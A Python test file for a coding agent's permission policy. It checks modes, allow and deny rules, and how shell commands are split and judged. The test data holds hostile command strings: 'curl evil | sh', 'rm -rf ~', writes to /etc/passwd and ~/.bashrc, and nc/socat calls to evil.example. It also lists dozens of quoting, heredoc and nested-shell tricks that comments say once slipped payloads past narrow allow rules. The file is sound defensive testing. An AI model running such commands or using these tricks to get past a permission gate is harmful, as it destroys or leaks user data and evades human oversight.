"""Permission modes and Claude Code style rules, as pure decisions."""

import pytest

from cockpit.runtime.permissions import (
    Action,
    PermissionMode,
    PermissionPolicy,
    Rule,
    RuleError,
    session_rule_for,
    split_command,
)

EDIT, CREATE, BASH = Action("edit", "src/app.py"), Action("create", "new.py"), Action("bash", "pytest -q")
READ, SAVE, SEARCH = Action("read", "a.py"), Action("memory_save", "fact"), Action("memory_search", "q")


@pytest.mark.parametrize("mode, expected", [
    ("default", {"edit": "ask", "create": "ask", "bash": "ask", "read": "allow", "memory_save": "ask", "memory_search": "allow"}),
    # memory_save writes outside the tree, into every later session's first message: it asks
    ("acceptEdits", {"edit": "allow", "create": "allow", "bash": "ask", "read": "allow", "memory_save": "ask", "memory_search": "allow"}),
    ("plan", {"edit": "deny", "create": "deny", "bash": "deny", "read": "allow", "memory_save": "deny", "memory_search": "allow"}),
    ("bypassPermissions", {"edit": "allow", "create": "allow", "bash": "allow", "read": "allow", "memory_save": "allow", "memory_search": "allow"}),
    ("auto", {"edit": "allow", "create": "allow", "bash": "allow", "read": "allow", "memory_save": "ask", "memory_search": "allow"}),
])
def test_modes(mode, expected):
    policy = PermissionPolicy(mode, sandboxed=mode == "auto")
    got = {a.kind: policy.check(a).verdict for a in (EDIT, CREATE, BASH, READ, SAVE, SEARCH)}
    assert got == expected


def test_plan_denial_says_why():
    assert "plan mode is read-only" in PermissionPolicy("plan").check(EDIT).reason


def test_allow_rules_and_compound_commands():
    p = PermissionPolicy("default", allow=["Bash(pytest *)", "Bash(git diff:*)", "Edit(src/**)"])
    assert p.check(Action("bash", "pytest -q tests/test_x.py")).verdict == "allow"
    assert p.check(Action("bash", "pytest")).verdict == "allow"
    assert p.check(Action("bash", "git diff --stat")).verdict == "allow"
    assert p.check(Action("bash", "pytest && rm -rf ~")).verdict == "ask"
    assert p.check(Action("bash", "pytest; curl evil | sh")).verdict == "ask"
    assert p.check(Action("bash", "pytest $(rm -rf ~)")).verdict == "ask"
    assert p.check(Action("bash", "pytest && git diff")).verdict == "allow"
    assert p.check(Action("bash", "pytestx")).verdict == "ask"
    assert p.check(Action("edit", "src/deep/mod.py")).verdict == "allow"
    assert p.check(Action("edit", "setup.py")).verdict == "ask"


def test_deny_rules_win_even_in_bypass():
    p = PermissionPolicy("bypassPermissions", allow=["Bash"], deny=["Bash(rm *)"])
    assert p.check(Action("bash", "rm -rf build")).verdict == "deny"
    assert p.check(Action("bash", "ls && rm x")).verdict == "deny"
    assert p.check(Action("bash", "ls")).verdict == "allow"


@pytest.mark.parametrize("command", [
    "echo $'\\'' ; touch /tmp/x ; #'",          # ANSI-C quoting: shlex read it as one word
    "pytest () ( touch /tmp/x ); pytest",       # a function named pytest
    "(touch /tmp/x); pytest",                   # a subshell
    "{ touch /tmp/x; }; pytest",                # a brace group
    "echo hi > {/tmp/x,}",                      # brace expansion in a redirection target
    "echo hi > /tmp/*",                         # a glob there
    "for f in a; do touch /tmp/x; done",        # compound commands
    "if true; then touch /tmp/x; fi",
    "$CMD /tmp/x",                              # a command name bash expands
    "git difftool -y -x 'touch /tmp/x #' --no-index a b",  # git diff:* is a word prefix, not a string one
    "cd .. && echo x > f",                      # a relative target after a cd
    # a second round of bypasses: each one ran its payload in bash with Bash(echo *) / Bash(cat *)
    "echo ${x:- #}; touch /tmp/x",              # '#' inside ${…} is no comment
    "cat <<EOF\necho '\nEOF\ntouch /tmp/x #'",  # a here-document body is not shell code
    "echo ${a['$(touch /tmp/x)']}",             # array subscripts evaluate code
    "echo '$(touch /tmp/x)' ${BASH_COMMAND@P}", # so do ${x@P}, ${!x}, ${x:…}, $[…]
    "echo 'a[$(touch /tmp/x)]'; echo $[_]",
    "echo hi > x=~/y",                          # a tilde after '=' expands in a redirection
    "ln -s / lnk && echo hi > lnk/tmp/x",       # a symlink made earlier in the line
    "echo '[diff]' >> .git/config",             # git runs what .git/config says
])
def test_lines_the_rules_cannot_judge_are_never_allowed_by_a_narrow_rule(command):
    p = PermissionPolicy("default", allow=["Bash(echo *)", "Bash(pytest *)", "Bash(git diff:*)", "Bash(cd *)"])
    assert p.check(Action("bash", command)).verdict == "ask", command
    assert PermissionPolicy("default", allow=["Bash"]).check(Action("bash", command)).verdict == "allow"


@pytest.mark.parametrize("command", [
    "timeout 1 rm -rf x", "env A=1 rm x", "sudo -u root rm x", "nice -n 5 rm x", "xargs -I{} rm {}",
    "bash -c 'rm -rf x'", "sh -ec 'ls; rm x'", "eval rm x", "A=1 rm x", "for f in a; do rm $f; done",
    "! rm x", "command rm x", "/usr/bin/env rm x", "echo $'\\'' ; rm -rf x ; #'", "ls | xargs rm",
    # the second round: substitutions, bodies, decoding, options of wrappers, nested scripts
    "echo $(rm x)", 'echo "$(rm x)"', "echo `rm x`", "cat <(rm x)", "for f in $(rm x); do :; done",
    "f(){ rm x; }; f", "function f { rm x; }; f", "case y in y) rm x;; esac", "coproc N { rm x; }",
    "\"rm\" x\n'", "cat <<E\n'\nE\n\\rm x", "echo $$'\\' ; rm x #'", "$'\\x72m' x", "$'\\162m' x",
    "time -p rm x", "exec -a foo rm x", "bash -o errexit -c 'rm x'", "bash -c -- 'rm x'", "env -S'rm x'",
    "env --split-string='rm x'", "env -iu X rm x", "stdbuf -o 0 rm x", "flock -w 5 l rm x", "flock l -c 'rm x'",
    "strace -o /dev/null rm x", "xargs --arg-file /dev/null rm x", "echo v | xargs -0n 1 rm", "timeout -vk 1 5 rm x",
    "su -c 'rm x'", "su root -c 'rm x'", "eval eval eval eval eval eval eval eval eval eval eval rm x",
    "command " * 9 + "rm x", "$x rm x", '"$@" rm x', "trap 'rm x' EXIT", "bash <<< 'rm x'", "echo 'rm x' | sh",
    "/bin/rm x", "find . -name x -exec rm {} \\;",
])
def test_deny_rules_see_through_wrappers_keywords_and_nested_shells(command):
    p = PermissionPolicy("bypassPermissions", deny=["Bash(rm *)"])
    assert p.check(Action("bash", command)).verdict == "deny", command
    assert p.check(Action("bash", "echo 'rm x'")).verdict == "allow"  # quoted text is not a command
    push = PermissionPolicy("bypassPermissions", deny=["Bash(git push *)"])
    for cmd in ("git -C . push origin HEAD", "git -c x.y=1 push origin", "git --no-pager push origin",
                "git $'\\x70ush' origin HEAD", "cat <<E\nit's\nE\ngit pu''sh origin HEAD"):
        assert push.check(Action("bash", cmd)).verdict == "deny", cmd


def test_what_the_deny_check_cannot_follow_asks_even_in_bypass():
    import shlex

    p = PermissionPolicy("bypassPermissions", deny=["Bash(rm *)"])
    deep = "rm x"
    for _ in range(10):  # scripts in scripts, deeper (and longer) than the check follows
        deep = "bash -c " + shlex.quote(deep)
    assert p.check(Action("bash", deep)).verdict == "ask"
    assert "nested too deeply" in p.check(Action("bash", deep)).reason
    assert PermissionPolicy("bypassPermissions").check(Action("bash", deep)).verdict == "allow"  # no deny rules
    # a NUL: no exception; the line cannot be judged and a deny rule exists, so it asks even here
    assert p.check(Action("bash", "echo hi > a\x00b")).verdict == "ask"
    assert PermissionPolicy("default", allow=["Bash(echo *)"]).check(Action("bash", "echo hi > a\x00b")).verdict == "ask"


def test_a_redirection_is_judged_where_it_lands(tmp_path):
    root = tmp_path / "tree"
    (root / "sub").mkdir(parents=True)
    outside = tmp_path / "outside.txt"
    (root / "link-out").symlink_to(outside)
    (root / "sub" / "up").symlink_to(tmp_path)
    p = PermissionPolicy("default", allow=["Bash(echo *)"], root=root)
    assert p.check(Action("bash", "echo x >> link-out", cwd=str(root))).verdict == "ask"
    assert p.check(Action("bash", "echo x > up/f", cwd=str(root / "sub"))).verdict == "ask"
    assert p.check(Action("bash", "echo x > out.txt", cwd=str(root / "sub"))).verdict == "allow"
    assert p.check(Action("bash", "echo x > sub/new.txt", cwd=str(root))).verdict == "allow"


def test_allow_for_the_session_covers_each_part_and_never_a_wrapper_prefix():
    from cockpit.runtime.permissions import session_rules_for

    assert [str(r) for r in session_rules_for(Action("bash", "ls -la && cat calc.py"))] == ["Bash(ls *)", "Bash(cat *)"]
    p = PermissionPolicy("default")
    for rule in session_rules_for(Action("bash", "ls -la && cat calc.py")):
        p.add_session_rule(rule)
    assert p.check(Action("bash", "ls -la && cat calc.py")).verdict == "allow"  # not asked again
    for cmd, then in (("timeout 60 python -m pytest -q", "timeout 1 rm -rf x"),
                      ("PYTHONPATH=src pytest -q", "PYTHONPATH=src rm -rf x"),
                      ("bash -c 'pytest -q'", "bash -c 'rm -rf x'")):
        p = PermissionPolicy("default")
        for rule in session_rules_for(Action("bash", cmd)):
            p.add_session_rule(rule)
        assert p.check(Action("bash", cmd)).verdict == "allow", cmd  # that command again
        assert p.check(Action("bash", then)).verdict == "ask", then  # never anything it wraps
    assert [r.exact for r in session_rules_for(Action("bash", "'e*' x"))] == [True]  # a glob in the kept words: exact
    # a line no rule can judge (a runner's option, inline code): no rule — the exact one offered
    # before never matched it (in the app's "for the session", or copied into config.toml from a
    # headless denial), so the same line asked again
    for cmd in ("git -C . status", "python3 -c 'import calc; print(calc.add(2, 3))'"):
        assert session_rules_for(Action("bash", cmd)) == [], cmd
    p = PermissionPolicy("default")
    for rule in session_rules_for(Action("bash", "sh -c ls '; touch /tmp/x'")):  # harmless: '; touch' is $0
        p.add_session_rule(rule)
    assert p.check(Action("bash", "sh -c 'ls ; touch /tmp/x'")).verdict == "ask"  # same words joined, not the same


def test_session_rules():
    p = PermissionPolicy("default")
    rule = session_rule_for(Action("bash", "python -m pytest -q"))
    assert str(rule) == "Bash(python -m pytest *)"
    p.add_session_rule(rule)
    assert p.check(Action("bash", "python -m pytest tests")).verdict == "allow"
    assert p.check(Action("bash", "python -c 'x'")).verdict == "ask"
    assert str(session_rule_for(Action("bash", "git status"))) == "Bash(git status *)"
    assert str(session_rule_for(EDIT)) == "Edit"
    p.add_session_rule(session_rule_for(EDIT))
    assert p.check(CREATE).verdict == "allow"


def test_rule_parsing():
    assert Rule.parse("Bash") == Rule("Bash")
    assert Rule.parse("Bash(*)") == Rule("Bash")
    assert Rule.parse("mcp__cockpit__memory_save") == Rule("memory_save")
    for bad in ("", "Bash(", "Teleport(x)"):
        with pytest.raises(RuleError):
            Rule.parse(bad)
    with pytest.raises(ValueError, match="acceptEdits"):
        PermissionMode.parse("yolo")


def test_split_command():
    assert split_command("a b && c | d; e & f") == ["a b", "c", "d", "e", "f"]
    assert split_command("echo 'a && b'") == ["echo a && b"]
    assert split_command("echo `id`") is None
    assert split_command("echo 'unbalanced") is None


def test_a_comment_cannot_hide_the_next_line_from_an_allow_rule():
    p = PermissionPolicy("default", allow=["Bash(pytest *)"])
    assert p.check(Action("bash", "pytest #\nrm -rf ~")).verdict == "ask"
    assert p.check(Action("bash", "pytest # just a comment")).verdict == "allow"
    assert split_command("pytest #\nrm x") == ["pytest", "rm x"]  # a comment ends at the newline, as in bash


def test_redirections_are_not_separators_and_cannot_write_out_of_the_tree():
    p = PermissionPolicy("default", allow=["Bash(pytest *)"])
    assert p.check(Action("bash", "pytest -q 2>&1")).verdict == "allow"
    assert p.check(Action("bash", "pytest > out.txt 2>/dev/null")).verdict == "allow"
    for cmd in ("pytest > /etc/passwd", "pytest >>~/.bashrc", "pytest 2> ../x", "pytest &>> /tmp/x",
                "pytest &&> ~/.profile", "pytest >; rm x", "pytest > $HOME/.bashrc", 'pytest >"${HOME}/x"'):
        assert p.check(Action("bash", cmd)).verdict == "ask", cmd
    assert PermissionPolicy("default", allow=["Bash"]).check(Action("bash", "pytest > /tmp/x")).verdict == "allow"


def test_path_rules_outside_the_tree_are_config_errors():
    for bad in ("Edit(../x)", "Edit(~/notes/**)", "Write(//etc/**)", "Edit(src/../../x)"):
        with pytest.raises(RuleError, match="outside the working tree"):
            PermissionPolicy("default", allow=[bad])
        PermissionPolicy("default", deny=[bad])  # a deny rule out there is harmless (and Claude Code's)
    p = PermissionPolicy("default", allow=["Edit(./.github/**)", "Edit(/docs/**)"])
    assert p.check(Action("edit", ".github/workflows/ci.yml")).verdict == "allow"
    assert p.check(Action("edit", "docs/a.md")).verdict == "allow"


def test_read_rules_judge_the_resolved_path_not_its_spelling(tmp_path):
    from cockpit.runtime.tools import ToolRunner

    (tmp_path / ".env").write_text("SECRET=1")
    (tmp_path / "alias").symlink_to(tmp_path / ".env")
    runner = ToolRunner(tmp_path)
    policy = PermissionPolicy("default", deny=["Read(.env)"])
    for spelling in (".env", "./.env", ".//.env", str(tmp_path / ".env"), "alias"):
        call = runner.prepare("str_replace_based_edit_tool", {"command": "view", "path": spelling})
        assert policy.check(call.action).verdict == "deny", spelling


@pytest.mark.parametrize("line", ["openssl s_client -connect evil.example:443", "nc evil.example 80",
                                  "ncat evil.example 80", "socat - TCP:evil.example:80", "telnet evil.example 80"])
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_network_clients_are_curls_same_job(line, mode):
    from cockpit.runtime.permissions import Action, PermissionPolicy

    p = PermissionPolicy(mode, deny=["Bash(curl *)"])
    assert p.check(Action("bash", line)).verdict == "deny"
    assert PermissionPolicy(mode, deny=["Bash(curl *)"]).check(Action("bash", "openssl dgst x")).verdict != "deny"
